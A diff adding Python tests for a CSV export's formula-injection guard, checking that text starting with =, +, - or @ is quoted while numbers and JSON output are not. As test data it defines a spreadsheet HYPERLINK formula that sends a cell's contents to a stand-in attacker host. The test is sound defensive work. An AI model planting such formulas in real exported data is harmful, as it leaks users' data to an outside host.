@@ -20,6 +20,7 @@ from app.transfer import (
     export_to_file,
     table_statement,
 )
+from app.transfer.cell_guard import unguard
 from app.transfer.filters import column_kind
 from tests.app.transfer.helpers import add_attendance, add_users
 
@@ -40,6 +41,8 @@ def _decode(kind: str, value, fmt: str):
         return {"true": True, "false": False}[value]
     if kind == "int" and fmt == "csv":
         return int(value)
+    if kind == "text" and fmt == "csv":
+        return unguard(value)  # "+41 ..." phones are written "'+41 ..." (CSV injection guard)
     return value
 
 
@@ -264,3 +267,46 @@ def test_rows_in_memory_export():
     assert out.getvalue().splitlines()[1] == (
         "a,true,,2026-05-01T16:30:00+00:00,00000000-0000-0000-0000-000000000001"
     )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+def test_csv_guards_text_that_a_spreadsheet_would_run(session):
+    """CSV injection: text starting with = + - @ gets a leading quote; numbers, negative
+    integers and times do not; JSON is left alone."""
+    from db.models import User
+
+    session.add(
+        User(email="a@example.org", first_name=FORMULA, last_name="@Home", phone="+41 79 1")
+    )
+    session.add(User(email="b@example.org", first_name="-5", last_name="'t Hooft", phone=None))
+    session.commit()
+    users = EXPORT_TABLES["users"]
+    view = select(
+        users.c.firstName,
+        users.c.lastName,
+        users.c.phone,
+        (func.length(users.c.email) * -1).label("negative"),
+        users.c.createdAt,
+    ).order_by(users.c.email)
+    out = io.StringIO()
+    export_statement(session, view, out, "csv")
+    first, second = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
+    assert first[:4] == ["'" + FORMULA, "'@Home", "'+41 79 1", "-13"]
+    assert second[:4] == ["-5", "'t Hooft", "", "-13"]
+    assert first[4][:1].isdigit()
+    out = io.StringIO()
+    export_statement(session, view, out, "json")
+    assert json.loads(out.getvalue())[0]["firstName"] == FORMULA
+
+
+def test_query_and_in_memory_csv_guard_text_only(session):
+    from app.transfer.export import export_rows
+
+    out = io.StringIO()
+    export_rows(("s", "n", "f"), [("@SUM(A1)", -7, -1.5)], out, "csv")
+    assert out.getvalue().splitlines()[1] == "'@SUM(A1),-7,-1.5"
+    out = io.StringIO()
+    export_statement(session, text("SELECT '=1+1' AS s, -3 AS n"), out, "csv")
+    assert out.getvalue().splitlines()[1] == "'=1+1,-3"
